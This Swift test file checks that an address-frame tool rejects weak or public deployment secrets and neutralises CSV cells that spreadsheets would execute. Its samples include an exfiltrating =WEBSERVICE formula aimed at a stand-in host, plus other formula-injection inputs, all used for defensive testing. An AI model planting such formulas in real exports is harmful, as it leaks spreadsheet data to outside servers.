import CensusTestSupport
import Foundation
import XCTest
@testable import AddressFrame

/// Secrets that are not secret, and CSV cells a spreadsheet would run (issue 13).
final class SecretsAndCSVTests: XCTestCase {
    func testLowEntropySecretsAreRefused() throws {
        for (name, bytes) in [("32 x a", Array(repeating: UInt8(ascii: "a"), count: 32)),
                              ("32 spaces", Array(repeating: UInt8(ascii: " "), count: 32)),
                              ("32 NUL bytes", Array(repeating: UInt8(0), count: 32)),
                              ("a repeated word", Array(String(repeating: "password", count: 5).utf8)),
                              ("a run", Array("abcdefghijklmnopqrstuvwxyz0123456789".utf8))] {
            XCTAssertThrowsError(try DeploymentSecret(bytes: bytes, source: name), name) {
                guard case .tooWeak? = $0 as? SecretError else { return XCTFail("\(name): \($0)") }
            }
        }
        // What the documentation tells operators to make, and a 128-bit hex secret, pass.
        XCTAssertNoThrow(try DeploymentSecret(bytes: Array(testSecretText().utf8), source: "base64"))
        let hex = (0..<16).map { String(format: "%02x", ($0 &* 89 &+ 17) % 256 ^ 0x5a) }.joined()
        XCTAssertGreaterThan(DeploymentSecret.estimatedBits(Array(hex.utf8)), DeploymentSecret.minimumBits, hex)
    }

    func testThePublicDevelopmentSecretIsRefusedUnlessAskedFor() throws {
        let dev = "census-development-secret-DO-NOT-USE-IN-PRODUCTION"
        XCTAssertThrowsError(try DeploymentSecret.load(environment: ["CENSUS_CODE_SECRET": dev], allowDevelopment: false)) {
            XCTAssertEqual($0 as? SecretError, .publicDevelopmentSecret(source: "environment variable CENSUS_CODE_SECRET"))
        }
        XCTAssertTrue(try DeploymentSecret.load(environment: ["CENSUS_CODE_SECRET": dev], allowDevelopment: true).isDevelopment)
        XCTAssertThrowsError(try DeploymentSecret(bytes: Array(dev.utf8), source: "x"))
    }


    func testCellsASpreadsheetWouldRunAreNeutralised() {
        XCTAssertEqual(CSV.neutralized("=WEBSERVICE(\"http://x/?c=\"&C2)"), "'=WEBSERVICE(\"http://x/?c=\"&C2)")
        for cell in ["+44 113 496 0000", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1", "=1"] {
            XCTAssertEqual(CSV.neutralized(cell), "'" + cell, cell.debugDescription)
            XCTAssertEqual(CSV.restored(CSV.neutralized(cell)), cell)
        }
        for cell in ["Flat 3", "-12", "+4.5", "3-5 Acacia Road", "", "'quoted'"] {
            XCTAssertEqual(CSV.neutralized(cell), cell, cell.debugDescription)
            XCTAssertEqual(CSV.restored(cell), cell)
        }
        XCTAssertEqual(CSV.line(["H1", "=1+2", "a,b", "\r=x"]), "H1,'=1+2,\"a,b\",\"'\r=x\"\n")
    }


    func testAGeneratedFrameCSVImportsAsItWasGenerated() throws {
        let dir = try makeTempDirectory(self)
        let h = Household(householdID: "-H1", addressLine1: "=1+1", addressLine2: "@home", postcode: "LS1 5NF",
                          outputArea: "E00000001", lsoa: "E01000001", localAuthority: "E08000035")
        let text = CSV.line(Household.csvHeader) + CSV.line(h.csvFields)
        XCTAssertTrue(text.contains("'-H1,'=1+1,'@home"), text)
        let frame = try AddressFrame.open(at: dir.appendingPathComponent(AddressFrame.fileName), create: true)
        defer { try? frame.close() }
        try frame.importCSV(Data(text.utf8))
        XCTAssertEqual(try frame.household("-H1"), h)
    }
}
